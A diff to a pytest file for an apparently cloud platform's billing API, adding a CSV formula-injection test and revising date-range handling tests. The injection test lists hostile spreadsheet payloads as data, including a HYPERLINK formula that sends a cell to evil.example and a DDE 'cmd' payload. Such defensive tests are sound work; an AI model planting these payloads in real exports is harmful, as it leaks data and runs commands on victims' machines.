@@ -58,7 +58,6 @@ def test_transactions_paginate_and_filter(client: Client, alice: Persona) -> Non
         ("kind=gift", "kind"),
         ("limit=0", "limit"),
         ("limit=500", "limit"),
-        ("since=2026-11-05&until=2026-11-01", "until"),
     ],
 )
 def test_bad_transaction_queries_are_400(client: Client, alice: Persona, query: str, param: str) -> None:
@@ -73,6 +72,22 @@ def test_csv_download(client: Client, alice: Persona) -> None:
     rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))  # type: ignore[attr-defined]
     assert rows[0] == ["id", "created_at", "kind", "service", "description", "amount_usd", "balance_usd"]
     assert rows[1][2:] == ["topup", "", "test funds", "25.000000", "25.000000"]
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3",
+                                  "@SUM(1+1)", "\tdata", "\rdata"])  # fmt: skip
+def test_csv_cells_a_user_named_never_start_a_formula(client: Client, alice: Persona, name: str) -> None:
+    """OWASP's CSV injection rule: a member's deployment name must not run in the owner's spreadsheet."""
+    fund(alice.org, 10 * USD)
+    now = timezone.now()
+    meter = usage_meter_start(org=alice.org, meter_key="m", service=Service.MODEL, description=name,
+                              hourly_price_micros=USD, started_at=now - timedelta(hours=1))  # fmt: skip
+    usage_charge(meter, meter.started_at, now)
+    response = client.get("/api/v1/billing/transactions.csv", **alice.auth)
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))  # type: ignore[attr-defined]
+    usage = next(row for row in rows[1:] if row[2] == "usage")
+    assert usage[4].startswith("'") and name in usage[4]
+    assert usage[5] == "-1.000000"  # amounts the platform writes stay numbers
 
 
 def test_usage_report(client: Client, alice: Persona) -> None:
@@ -201,13 +216,31 @@ def test_page_spend_limit_refusal_is_inline_and_changes_nothing(client: Client, 
 
 
 def test_usage_fills_a_missing_bound_from_the_given_one(client: Client, alice: Persona) -> None:
-    """A report for one bound is accepted as the description admits it: the other bound follows it
-    (at most 366 days after a start; the first of the end's month), never a refusal built from today."""
+    """Every range the description admits is answered, and the answer says which days it covers: a
+    missing bound follows the given one (the first of the end's month; today after a start), a
+    report stops 366 days after its start, and an end before the start is a report of no days."""
     long_ago = client.get("/api/v1/billing/usage?start=2000-01-01", **alice.auth)
     assert long_ago.status_code == 200, long_ago.content
     assert (long_ago.json()["start"], long_ago.json()["end"]) == ("2000-01-01", "2001-01-01")
     past_end = client.get("/api/v1/billing/usage?end=2001-03-15", **alice.auth)
     assert past_end.status_code == 200, past_end.content
     assert (past_end.json()["start"], past_end.json()["end"]) == ("2001-03-01", "2001-03-15")
+    assert len(past_end.json()["by_day"]) == 15
+    decade = client.get("/api/v1/billing/usage?start=2001-01-01&end=2010-12-31", **alice.auth).json()
+    assert (decade["start"], decade["end"], len(decade["by_day"])) == ("2001-01-01", "2002-01-02", 367)
     swapped = client.get("/api/v1/billing/usage?start=2001-03-15&end=2001-03-01", **alice.auth)
-    assert swapped.status_code == 400 and swapped.json()["error"]["param"] == "end"
+    assert swapped.status_code == 200, swapped.content
+    assert swapped.json()["by_day"] == {} and swapped.json()["total_usd"] == 0
+
+
+def test_transactions_until_before_since_match_nothing(client: Client, alice: Persona) -> None:
+    fund(alice.org, 5 * USD)
+    today = timezone.now().date()
+    both = f"since={today.isoformat()}&until={(today - timedelta(days=1)).isoformat()}"
+    inverted = client.get(f"/api/v1/billing/transactions?{both}", **alice.auth)
+    assert inverted.status_code == 200 and inverted.json()["data"] == [], inverted.content
+    same_day = client.get(f"/api/v1/billing/transactions?since={today}&until={today}", **alice.auth)
+    assert len(same_day.json()["data"]) == 1
+    download = client.get(f"/api/v1/billing/transactions.csv?{both}", **alice.auth)
+    rows = b"".join(download.streaming_content).decode().strip().splitlines()  # type: ignore[attr-defined]
+    assert download.status_code == 200 and len(rows) == 1  # the header only
